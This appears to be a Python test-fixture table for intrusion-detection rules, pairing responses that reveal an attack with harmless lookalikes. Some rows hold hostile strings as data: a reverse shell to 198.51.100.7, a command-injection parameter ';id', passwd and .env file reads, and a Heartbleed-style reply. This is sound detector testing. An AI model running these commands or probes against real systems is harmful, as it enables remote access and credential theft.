"""Rows for outcome.rules: the answer that gives an attack away, and an ordinary answer of the same kind."""
from .exploit import HELLO, SERVER_HELLO, heartbeat
from .steps import get, page, response, s, talk

PASSWD = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
CMD = "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
BIND = b"\x30\x0c\2\1\1\x60\7\2\1\3\4\0\x80\0"

TABLE = [
    (1200, get("/view?page=/etc/passwd", response(PASSWD)), get("/view?page=/etc/passwd", response("no such page"))),
    (1201, page(PASSWD, "text/plain"), page("an article about root:x:0:0 in passwd", "text/plain")),
    (1202, talk(8800, s("root:$6$abcdefgh$" + "A1b2C3d4" * 10 + ":19000:0:99999:7:::\n")), talk(8800, s("root:$6 is the price\n"))),
    (1203, talk(8801, "id\n", s("uid=0(root) gid=0(root) groups=0(root)\n")), talk(8801, "id\n", s("uid=0(root) is the first user\n"))),
    (1204, page("uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"), page("uid=33 is www-data on Debian")),
    (1226, get("/ping?host=1;id", response("uid=1000(alice) gid=1000(alice)\n")), get("/ping?host=1", response("uid=1000(alice) gid=1000(alice)\n"))),
    (1205, get("/view?page=c:/windows/win.ini", response("; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n")), get("/view?page=c:/windows/win.ini", response("[not found]"))),
    (1206, talk(4444, CMD, reverse=True), talk(4444, "Microsoft Windows is a system (c) by Microsoft Corp\r\n", reverse=True)),
    (1208, talk(4445, "PS C:\\Users\\bob> ", reverse=True), talk(4445, "PS: C is a language > B", reverse=True)),
    (1209, talk(4446, "root@web1:/var/www# ", reverse=True), talk(4446, "# a comment", reverse=True)),
    (1210, talk(4447, "bash: no job control in this shell\n", reverse=True), talk(4447, "bash: job control in this shell\n", reverse=True)),
    (1211, talk(8802, s("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")), talk(8802, s("ls /dev/tcp/\n"))),
    (1212, page("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"), page("Lesson 1: SQL syntax")),
    (1213, page("Microsoft OLE DB Provider for SQL Server error '80040e14' Unclosed quotation mark before the character string"), page("A quotation mark is a character")),
    (1223, page("ORA-00933: SQL command not properly ended"), page("ORA-0 is a prefix")),
    (1224, page("ERROR: unterminated quoted string at or near \"'\" at character 30"), page("a quoted string at or near the end")),
    (1225, page("sqlite3.OperationalError: near \"'\": syntax error"), page("SQLite is a library")),
    (1214, page("<br />\n<b>Fatal error</b>:  Allowed memory size of 16384 bytes exhausted"), page("<b>Fatal error</b>: see the manual")),
    (1215, page("<html><title>Index of /etc</title>"), page("<html><title>Index of /pub/debian</title>")),
    (1216, get("/.git/config", response("[core]\n\trepositoryformatversion = 0\n", ctype="text/plain")), page("[core] values\n", "text/plain")),
    (1217, get("/.env", response("APP_ENV=production\nAPP_DEBUG=false\nDB_PASSWORD=hunter2222\n", ctype="text/plain")), page("APP_ENV=test\nAPP_DEBUG=true\n", "text/plain")),
    (1218, talk(443, HELLO, SERVER_HELLO, heartbeat(0x4000), s(b"\x18\3\2\x40\0\2" + b"m" * 900)), talk(443, HELLO, SERVER_HELLO, heartbeat(0x4000), s(b"\x15\3\2\0\2\2\x0a"))),
    (1219, talk(1389, BIND), talk(1389, b"\x30\x16\2\1\1\x60\x11\2\1\3\4\x04CN=a\x80\6secret")),
    (1221, talk(4448, " Volume in drive C has no label.\r\n Volume Serial Number is 3C61-A5D4\r\n", reverse=True), talk(4448, " Volume Serial Number is missing\r\n", reverse=True)),
    (1222, talk(4449, "\r\nWindows IP Configuration\r\n\r\n", reverse=True), talk(4449, "Windows IP Configuration guide", reverse=True)),
]
